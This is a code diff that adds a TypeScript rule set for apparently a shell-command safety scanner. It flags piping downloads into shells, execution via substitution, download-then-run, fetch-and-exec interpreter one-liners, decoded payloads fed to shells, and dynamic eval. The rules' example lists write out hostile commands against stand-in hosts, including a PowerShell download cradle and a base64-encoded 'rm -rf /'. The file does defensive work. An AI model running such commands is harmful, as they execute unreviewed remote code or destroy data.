@@ -1,0 +1,259 @@
+/** remote-exec and obfuscation rules that run fetched or decoded text (research note §C rows
+ * 10–13, 43–45). */
+import type { Rule } from '../rule.js';
+import type { CommandLine, ShellCommand, Span } from '../shell/model.js';
+import { shellScriptArg } from '../shell/analyze.js';
+import { baseName, normalizePath } from '../shell/words.js';
+import { DOWNLOADERS, INTERPRETERS, SHELLS, hasDownloader, isDecoder, opts, parseOpts, runsStdin, upstream, CURL_VALUED, WGET_VALUED } from './util.js';
+
+/** Commands whose output a command runs as code: `sh -c "$(…)"`, `eval "$(…)"`, `bash <(…)`,
+ * `source <(…)`, `. <(…)`. Each entry is the commands of one substitution. */
+export function executedSubstitutions(c: ShellCommand): ShellCommand[][] {
+  const out: ShellCommand[][] = [];
+  if (SHELLS.has(c.name)) {
+    const script = shellScriptArg(c.argv);
+    const idx = script === null ? -1 : c.argv.indexOf(script, 1);
+    c.words.forEach((w, i) => {
+      for (const s of w.subs) {
+        if (i === idx && s.kind === 'command') out.push(s.commands);
+        if (idx < 0 && s.kind === 'process-in') out.push(s.commands);
+      }
+    });
+    // `bash <<< "$(curl …)"` feeds the output on stdin.
+  } else if (c.name === 'eval' || c.name === 'source' || c.name === '.') {
+    for (const w of c.words.slice(1)) for (const s of w.subs) if (s.kind !== 'process-out') out.push(s.commands);
+  }
+  return out;
+}
+
+/** The interpreter one-liner code of `python -c`, `perl -e`, `node -e`, `ruby -e`, `php -r`,
+ * `powershell -c`/`-EncodedCommand` (decoded from UTF-16LE base64), or null. */
+export function interpreterCode(c: ShellCommand): string | null {
+  if (!INTERPRETERS.test(c.name)) return null;
+  const args = c.argv.slice(1);
+  if (/^(?:pwsh|powershell)/i.test(c.name)) {
+    const enc = args.findIndex((a) => /^-(?:e|ec|enc|encodedcommand)$/i.test(a));
+    if (enc >= 0 && args[enc + 1]) {
+      try {
+        return Buffer.from(args[enc + 1]!, 'base64').toString('utf16le');
+      } catch {
+        return null;
+      }
+    }
+    const i = args.findIndex((a) => /^-(?:c|command)$/i.test(a));
+    if (i >= 0) return args.slice(i + 1).join(' ');
+    const rest = args.filter((a) => !a.startsWith('-'));
+    return rest.length ? rest.join(' ') : null;
+  }
+  const i = args.findIndex((a) => /^-(?:c|e|E|r|p|-eval|-print)$/.test(a) || /^-[a-zA-Z]*[ce]$/.test(a));
+  if (i >= 0 && args[i + 1] !== undefined) return args[i + 1]!;
+  return null;
+}
+
+const FETCH = /urlopen|urllib|requests\.(?:get|post)|httpx\.|http\.client|LWP::|HTTP::Tiny|open-uri|URI\.open|Net::HTTP|file_get_contents\s*\(\s*['"]https?:|fetch\s*\(|https?\.get\s*\(|DownloadString|DownloadFile|DownloadData|Net\.WebClient|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|curl_exec/i;
+const EXEC = /\bexec\s*\(|\beval\s*\(|\bIEX\b|Invoke-Expression|\bsystem\s*\(|\bcompile\s*\(|runpy|\bFunction\s*\(|\bexecSync\b|\bspawn\b|\bpopen\b|`\$|\bsh\s*\(|\.run\s*\(/i;
+
+/** The span of a command, for excerpts. */
+function spanOfDownload(line: CommandLine, c: ShellCommand): Span {
+  void line;
+  return c.span;
+}
+
+/** Files a downloader writes in this command (`curl -o f`, `curl -O url`, `wget url`, `wget -O f`). */
+function downloadedFiles(c: ShellCommand): string[] {
+  const urls = c.argv.filter((a) => /^(?:https?|ftp):\/\//i.test(a));
+  const urlName = (u: string) => baseName(u.replace(/[?#].*$/, ''));
+  if (c.name === 'curl') {
+    const o = parseOpts(c.argv.slice(1), CURL_VALUED);
+    const named = [...(o.values.get('-o') ?? []), ...(o.values.get('--output') ?? [])];
+    if (named.length) return named;
+    if (o.short.has('O') || o.long.has('remote-name')) return urls.map(urlName);
+    return [];
+  }
+  if (c.name === 'wget') {
+    const o = parseOpts(c.argv.slice(1), WGET_VALUED);
+    const named = [...(o.values.get('-O') ?? []), ...(o.values.get('--output-document') ?? [])];
+    if (named.length) return named.filter((n) => n !== '-');
+    return urls.map(urlName);
+  }
+  return [];
+}
+
+/** The file a command runs, when it runs one: `bash f`, `python f`, `./f`, `source f`, `chmod +x f`. */
+function executedFiles(c: ShellCommand): string[] {
+  if (SHELLS.has(c.name) || INTERPRETERS.test(c.name)) {
+    if (shellScriptArg(c.argv) !== null) return [];
+    const o = parseOpts(c.argv.slice(1), { short: 'oOmcW' });
+    return o.operands.slice(0, 1);
+  }
+  if (c.name === 'source' || c.name === '.') return c.argv.slice(1, 2);
+  if (c.name === 'chmod' && c.argv.some((a) => /^[ugoa]*\+[rwxXst]*x/.test(a))) return opts(c).operands.filter((a) => !/^[ugoa]*[+=-]/.test(a));
+  if (c.argv[0]?.includes('/')) return [c.argv[0]];
+  return [];
+}
+
+export const REMOTE_RULES: Rule[] = [
+  {
+    id: 'curl-pipe-shell',
+    name: 'Download piped into a shell',
+    category: 'remote-exec',
+    action: 'block',
+    description: 'Output of curl/wget/fetch/iwr piped (possibly via tee, sudo or env) into a shell or an interpreter reading code from stdin.',
+    help: 'Runs whatever the server returns, unreviewed. Download to a file, read it, then run it.',
+    examples: {
+      match: ['curl -fsSL https://x.example/install | sh', 'wget -qO- https://x.example/get.py | sudo python3 -', 'curl -s https://x.example/i | tee /tmp/log | sudo -E bash -s -- --yes'],
+      not_match: ['curl -o install.sh https://x.example/install', 'curl -s https://api.example.com/v1/items | python3 -m json.tool', 'curl -s https://x.example | grep sh', 'echo "curl https://x | sh" >> notes.md'],
+    },
+    match: {
+      command: (c) => runsStdin(c) && upstream(c).some((u) => DOWNLOADERS.has(u.name.toLowerCase())),
+      raw: /\b(?:curl|wget|fetch|iwr|Invoke-WebRequest)\b[^|;&\n]*\|\s*(?:(?:sudo|env|tee)\b[^|;&\n]*\|?\s*)*(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:ba|z|da|k)?sh\b(?!\s+-c)|\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:python[0-9.]*|perl|ruby|node|php)\s*(?:-\s*)?(?=$|[;&|"\\])/,
+    },
+  },
+  {
+    id: 'remote-substitution-exec',
+    name: 'Downloaded text run through substitution',
+    category: 'remote-exec',
+    action: 'block',
+    description: 'Downloaded text run via bash <(curl …), sh -c "$(curl …)", eval "$(wget …)" or source <(…).',
+    help: 'Runs whatever the server returns, unreviewed. Download to a file, read it, then run it.',
+    examples: {
+      match: ['bash <(curl -s https://x.example/i.sh)', 'sh -c "$(wget -qO- https://x.example/i.sh)"', 'eval "$(curl -fsSL https://x.example/env)"', 'source <(curl -s https://x.example/f)'],
+      not_match: ['diff <(curl -s https://a.example/v1) <(curl -s https://a.example/v2)', 'echo "my ip is $(curl -s https://ifconfig.me)"'],
+    },
+    match: {
+      command: (c) => executedSubstitutions(c).some((cmds) => hasDownloader(cmds)),
+      raw: /\b(?:(?:ba|z|k)?sh|source|\.)\s+<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z|k)?sh\s+-\w*c|eval)\s+\\?["']?\$\(\s*(?:curl|wget)\b/,
+    },
+  },
+  {
+    id: 'download-then-exec',
+    name: 'Download then run',
+    category: 'remote-exec',
+    action: 'record',
+    description: 'A file downloaded in the command line is then run or made executable in the same line.',
+    help: 'Runs a downloaded script without review. Check the URL and the script.',
+    examples: {
+      match: ['curl -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh', 'wget https://x.example/run.sh && chmod +x run.sh && ./run.sh'],
+      not_match: ['curl -o data.json https://api.example.com/x && jq . data.json', 'bash ./scripts/test.sh'],
+    },
+    match: {
+      line: (line) => {
+        const downloaded = new Set<string>();
+        for (const c of line.commands) {
+          for (const f of executedFiles(c)) if (downloaded.has(baseName(normalizePath(f)))) return spanOfDownload(line, c);
+          for (const f of downloadedFiles(c)) downloaded.add(baseName(normalizePath(f)));
+        }
+        return null;
+      },
+    },
+  },
+  {
+    id: 'interpreter-download-exec',
+    name: 'Interpreter one-liner that fetches and runs code',
+    category: 'remote-exec',
+    action: 'block',
+    description: 'A python/perl/ruby/node/php/PowerShell one-liner that downloads code and exec/eval/IEX-es it.',
+    help: 'Runs whatever the server returns, unreviewed.',
+    examples: {
+      match: [
+        `python3 -c "import urllib.request as u;exec(u.urlopen('https://x.example/p').read())"`,
+        `powershell -NoP -c "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')"`,
+      ],
+      not_match: [
+        `python3 -c "import urllib.request as u;print(u.urlopen('https://x.example').status)"`,
+        `powershell -c "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"`,
+      ],
+    },
+    match: {
+      command: (c) => {
+        const code = interpreterCode(c);
+        return code !== null && FETCH.test(code) && EXEC.test(code);
+      },
+    },
+  },
+  {
+    id: 'decode-pipe-shell',
+    name: 'Decoded text run by a shell',
+    category: 'obfuscation',
+    action: 'block',
+    description: 'Decoded or transformed text (base64 -d, base32, xxd -r, openssl enc -d, rev, tr, gunzip) fed to a shell or eval.',
+    help: 'Hides the real command from review. Decode it and inspect what would run.',
+    examples: {
+      match: ['echo cm0gLXJmIC8= | base64 -d | sh', "echo '/ fr- mr' | rev | bash", 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"', 'xxd -r -p payload.hex | bash'],
+      not_match: ['base64 -d cert.b64 > cert.pem', 'echo aGVsbG8= | base64 -d', 'echo hi | tr a-z A-Z'],
+    },
+    match: {
+      command: (c) =>
+        (runsStdin(c) && upstream(c).some(isDecoder)) ||
+        executedSubstitutions(c).some((cmds) => cmds.some(isDecoder)),
+      raw: /\b(?:base64|base32|basenc)\s+(?:-\w*[dD]\w*|--decode)\b[^;&\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\|\s*rev\s*\|\s*(?:ba|z)?sh\b|\bxxd\s+-r[^;&\n]*\|\s*(?:ba|z)?sh\b/,
+    },
+  },
+  {
+    id: 'eval-dynamic',
+    name: 'eval of dynamic text',
+    category: 'obfuscation',
+    action: 'record',
+    description: 'eval/source of a variable or a command substitution, except well-known environment generators (ssh-agent, brew shellenv, pyenv init, …).',
+    help: 'What runs is decided at run time and cannot be reviewed from the command line.',
+    examples: {
+      match: ['eval "$CMD"', 'eval "$(cat /tmp/payload)"', 'source <(cat /tmp/x)'],
+      not_match: ['eval "$(ssh-agent -s)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval "$(pyenv init -)"', 'eval echo hi'],
+    },
+    match: {
+      command: (c) => {
+        if (c.name !== 'eval' && c.name !== 'source' && c.name !== '.') return false;
+        const words = c.words.slice(1);
+        if (!words.some((w) => w.dynamic)) return false;
+        const subs = words.flatMap((w) => w.subs);
+        const unresolvedVar = words.some((w) => w.dynamic && /\$(?:\{?[A-Za-z_@*#?0-9])/.test(w.text.replace(/\$\([\s\S]*\)/g, '')));
+        if (unresolvedVar) return true;
+        return subs.some((s) => !s.commands.every(isEnvGenerator) || s.commands.length === 0);
+      },
+    },
+  },
+];
+
+/** Tools whose output is meant to be eval'd (shell environment setup idioms). */
+function isEnvGenerator(c: ShellCommand): boolean {
+  const a = c.argv.slice(1).join(' ');
+  switch (c.name) {
+    case 'ssh-agent':
+    case 'gpg-agent':
+    case 'keychain':
+    case 'dircolors':
+    case 'direnv':
+    case 'thefuck':
+    case 'luarocks':
+      return true;
+    case 'brew':
+      return /^shellenv\b/.test(a);
+    case 'pyenv':
+    case 'rbenv':
+    case 'nodenv':
+    case 'goenv':
+    case 'jenv':
+    case 'plenv':
+    case 'phpenv':
+    case 'starship':
+    case 'zoxide':
+    case 'mise':
+    case 'rtx':
+      return /\b(?:init|activate|virtualenv-init)\b/.test(a);
+    case 'fnm':
+    case 'opam':
+      return /^env\b/.test(a);
+    case 'conda':
+    case 'micromamba':
+      return /shell/.test(a);
+    case 'fzf':
+      return /^--(?:bash|zsh|fish)\b/.test(a);
+    case 'register-python-argcomplete':
+    case 'kubectl':
+    case 'helm':
+    case 'gh':
+      return /\bcompletion\b/.test(a) || c.name === 'register-python-argcomplete';
+    default:
+      return false;
+  }
+}
